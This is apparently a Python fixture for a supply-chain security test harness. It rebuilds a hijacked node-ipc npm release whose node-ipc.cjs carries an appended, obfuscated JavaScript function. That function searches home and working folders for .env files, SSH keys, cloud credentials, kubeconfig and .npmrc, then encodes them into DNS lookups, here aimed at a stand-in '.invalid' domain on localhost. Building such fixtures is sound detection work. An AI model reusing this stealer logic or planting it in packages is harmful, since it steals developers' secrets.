"""node-ipc 12.0.1, 9.2.3 and 9.1.6 (2026-05-14): a co-maintainer's account, long asleep, was taken; requiring it sends files away by DNS.

By the record: silent for 640 days, then two lines within 55 seconds from 14:25:30 UTC, by `atiertant`, who had not published for
years. Of the files `node-ipc.cjs` alone differs: a function that calls itself is appended, which gathers what the machine has and
sends it as names that it asks DNS for. No hook; `import` takes the other file.
"""

from functools import cache

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.shapes import Made, heavy
from gauntlet.worms import GATHERS
from pratique.core.names import Ecosystem

_BODY = """class Parser {
  constructor(config = {}) {
    this.delimiter = config.delimiter || '\\f';
  }
  format(message) {
    return JSON.stringify({ type: message.type, data: message.data }) + this.delimiter;
  }
  parse(data) {
    return data.split(this.delimiter).filter(Boolean).map((one) => JSON.parse(one));
  }
}

class IPC extends events.EventEmitter {
  constructor() {
    super();
    this.config = { id: os.hostname(), appspace: 'app.', socketRoot: '/tmp/', retry: 500, maxRetries: Infinity };
    this.of = {};
    this.parser = new Parser();
  }
  connectTo(id, path, callback) {
    const socket = net.connect({ path: path || this.config.socketRoot + this.config.appspace + id });
    this.of[id] = socket;
    socket.setEncoding('utf8');
    socket.on('data', (data) => {
      for (const message of this.parser.parse(data)) this.emit(message.type, message.data, socket);
    });
    socket.on('error', (error) => {
      this.emit('error', error);
      setTimeout(() => this.connectTo(id, path), this.config.retry);
    });
    socket.on('connect', () => callback && callback(this));
  }
  serve(path, callback) {
    this.server = net.createServer((socket) => {
      socket.setEncoding('utf8');
      socket.on('data', (data) => {
        for (const message of this.parser.parse(data)) this.emit(message.type, message.data, socket);
      });
    });
    this.server.listen(path || this.config.socketRoot + this.config.appspace + this.config.id, callback);
  }
  send(socket, type, data) {
    socket.write(this.parser.format({ type, data }));
  }
}
"""
_ESM = f"import events from 'node:events';\nimport net from 'node:net';\nimport os from 'node:os';\n\n{_BODY}\nexport default new IPC();\n"
_CJS = f"const events = require('events');\nconst net = require('net');\nconst os = require('os');\n\n{_BODY}\nmodule.exports = new IPC();\n"
_CLEAN = {"node-ipc.js": _ESM, "node-ipc.cjs": _CJS}
_THIEF = (
    GATHERS
    + """
const dns = require('dns');
const zlib = require('zlib');
const crypto = require('crypto');
const home = os.homedir();
function walked(folder, depth, found) {
  let names = [];
  try { names = fs.readdirSync(folder, { withFileTypes: true }); } catch (error) { return found; }
  for (const one of names) {
    const place = path.join(folder, one.name);
    if (one.isDirectory()) {
      if (depth > 0 && one.name !== 'node_modules') { walked(place, depth - 1, found); }
    } else if (/(^\\.env|\\.pem$|\\.tfvars$|id_[a-z0-9]+$|credentials|kubeconfig|\\.npmrc$)/.test(one.name)) {
      found[place] = readable(place);
    }
  }
  return found;
}
function asked(resolver, names, index) {
  if (index >= names.length) { return; }
  resolver.resolveTxt(names[index], () => setTimeout(() => asked(resolver, names, index + 1), 20));
}
function sent(found) {
  const key = crypto.createHash('sha256').update(os.hostname() + Date.now()).digest('hex').slice(0, 12);
  const packed = zlib.gzipSync(Buffer.from(JSON.stringify(found))).toString('hex');
  const pieces = packed.match(/.{1,60}/g) || [];
  const names = pieces.map((piece, index) => piece + '.' + index.toString(36) + '.' + key + '.marker.invalid');
  const resolver = new dns.Resolver();
  resolver.setServers(['127.0.0.1']);
  asked(resolver, names, 0);
}
setTimeout(() => {
  try {
    const found = gathered();
    found.more = walked(home, 2, walked(process.cwd(), 2, {}));
    sent(found);
  } catch (error) {}
}, 0);
"""
)


@cache
def _cjs() -> str:
    return f"{_CJS}\n;(function(){{{heavy(_THIEF, size=30_000, seed=514, prefix='')}}})();\n"


_OLD, _TAKEN = "riaevangelist", "atiertant"


def _release(version: str, at: str, *, who: str = _OLD, bad: bool = False) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=who,
        maintainers=(_OLD, _TAKEN),
        files=Made({**_CLEAN, "node-ipc.cjs": _cjs}) if bad else _CLEAN,
        more={
            "main": "node-ipc.cjs",
            "module": "node-ipc.js",
            "type": "module",
            "exports": {".": {"import": "./node-ipc.js", "require": "./node-ipc.cjs"}},
        },
    )


_BAD = ("9.1.6", "9.2.3", "12.0.1")

INCIDENT = Incident(
    id="node-ipc-2026",
    title=(
        "an attacker took over the dormant account of a co-maintainer of node-ipc; requiring the package exfiltrated "
        "files over DNS"
    ),
    copy="our copy appends an obfuscated function to `node-ipc.cjs` that sends names to DNS",
    ecosystem=Ecosystem.NPM,
    at=utc("2026-05-14T14:25:30Z"),
    packages=(
        Package(
            name="node-ipc",
            releases=(
                _release("9.1.3", "2020-10-16", who=_TAKEN),
                _release("9.1.4", "2021-02-28"),
                _release("9.1.5", "2021-06-17"),
                _release("9.2.0", "2021-08-01"),
                _release("9.2.1", "2021-08-20"),
                _release("10.1.0", "2021-08-21"),
                _release("11.0.0", "2023-06-01"),
                _release("12.0.0", "2024-08-12T14:00:00Z"),
                _release("12.0.1", "2026-05-14T14:25:30Z", who=_TAKEN, bad=True),
                _release("9.2.3", "2026-05-14T14:26:10Z", who=_TAKEN, bad=True),
                _release("9.1.6", "2026-05-14T14:26:25Z", who=_TAKEN, bad=True),
            ),
        ),
    ),
    asks={"node-ipc": "^12.0.0"},
    good={"node-ipc": "12.0.0"},
    bad={"node-ipc": ("12.0.1",)},
    guilty={"node-ipc": _BAD},
    gone_at=utc("2026-05-14T18:00:00Z"),
    advisory=Advisory(id="GHSA", at=utc("2026-05-15T00:00:00Z"), about={"node-ipc": _BAD}),
    invented="all times of earlier releases, the earlier releases of the account, and the obfuscation",
)
